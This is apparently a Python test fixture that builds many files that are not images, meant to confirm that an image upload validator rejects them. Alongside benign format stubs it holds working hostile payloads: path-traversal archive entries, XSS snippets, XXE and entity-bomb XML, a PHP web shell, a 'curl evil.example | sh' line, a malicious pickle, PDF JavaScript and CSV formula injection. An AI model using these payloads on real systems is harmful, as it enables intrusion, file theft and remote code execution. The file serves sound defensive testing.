"""What is no picture of the kinds that we read: documents, programs, archives, films, and pictures of other kinds.

Nothing here knows Django: the processes that try these files start quickly.
"""

import gzip
import io
import tarfile
import zipfile
from functools import cache

from PIL import Image

from kyc.tests.pictures import (
    MARK,
    SCRIPT,
    drawn,
    saved,
)


def archive() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        made.writestr("../../evil.sh", MARK)
    return file.getvalue()


def tar() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as made:
        made.addfile(tarfile.TarInfo("../evil"), io.BytesIO())
    return file.getvalue()


@cache
def payloads() -> dict[str, bytes]:
    """What is no picture of the kinds that we read."""
    small = drawn()
    animation = [drawn(mode="P"), Image.new("P", (420, 320))]
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">' + SCRIPT + b"</svg>"
    entities = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    return {
        "svg": svg,
        "svg-xml": b'<?xml version="1.0"?>' + svg,
        "svg-bom": b"\xef\xbb\xbf" + svg,
        "svg-gz": gzip.compress(svg, mtime=0),
        "svg-onload": b"<svg onload=alert(1)//" + MARK,
        "html": b"<!doctype html><html><body>" + SCRIPT,
        "html-blank": b"\n \t<html>" + SCRIPT,
        "html-base": b"<base href=//evil.example>" + MARK,
        "js": b"alert(document.cookie)//" + MARK,
        "js-module": b"import('//evil.example/" + MARK + b"')",
        "xml-entity": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
        "xml-laughs": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">' + entities + b"]><a>&a9;</a>",
        "xslt": b'<?xml version="1.0"?><xsl:stylesheet version="1.0"/>',
        "mathml": b"<math><mtext>" + SCRIPT,
        "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
        "pdf-late": b"\n" * 900 + b"%PDF-1.4\n%%EOF",
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 400 400\n(/etc/passwd) (r) file\n",
        "eicar": rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-" + b"FILE!$H+H*",
        "gif": saved(small.convert("P"), "GIF"),
        "gif-moving": saved(animation[0], "GIF", save_all=True, append_images=animation[1:]),
        "gif-js": b"GIF89a=1;alert(1);//" + MARK,
        "webp": saved(small, "WEBP"),
        "webp-lossless": saved(small, "WEBP", lossless=True),
        "avif": saved(small, "AVIF"),
        "tiff": saved(small, "TIFF"),
        "tiff-deflate": saved(small, "TIFF", compression="tiff_deflate"),
        "bmp": saved(small, "BMP"),
        "ico": saved(small, "ICO"),
        "icns": saved(drawn((512, 512), "RGBA"), "ICNS"),
        "ppm": saved(small, "PPM"),
        "tga": saved(small, "TGA"),
        "pcx": saved(small, "PCX"),
        "sgi": saved(small, "SGI"),
        "dds": saved(small, "DDS"),
        "jpeg2000": saved(small, "JPEG2000"),
        "fits": b"SIMPLE  =                    T".ljust(80) + b"NAXIS   =                    2".ljust(2800),
        "psd": b"8BPS\0\1" + bytes(20),
        "wmf": b"\xd7\xcd\xc6\x9a" + bytes(80),
        "flif": b"FLIF31" + bytes(60),
        "jxl": b"\xff\x0a" + bytes(60),
        "heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(400),
        "heif-burst": b"\0\0\0\x18ftypmsf1\0\0\0\0msf1hevc" + bytes(400),
        "mp4": b"\0\0\0\x18ftypisom\0\0\2\0isomiso2" + bytes(400),
        "mov": b"\0\0\0\x14ftypqt  \0\0\0\0qt  " + bytes(400),
        "zip": archive(),
        "tar": tar(),
        "gzip": gzip.compress(bytes(100_000), mtime=0),
        "elf": b"\x7fELF\2\1\1" + bytes(60),
        "exe": b"MZ\x90\0" + bytes(60),
        "php": b"<?php system($_GET['" + MARK + b"']); ?>",
        "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
        "pickle": b"\x80\x04cos\nsystem\n(S'id'\ntR.",
        "mvg": b"push graphic-context\nimage over 0,0 0,0 'https://evil.example/x'\n",
        "csv": b"=cmd|' /C calc'!A0\n",
        "nul": bytes(5000),
        "spaces": b" " * 5000,
        "ones": b"\xff" * 5000,
    }
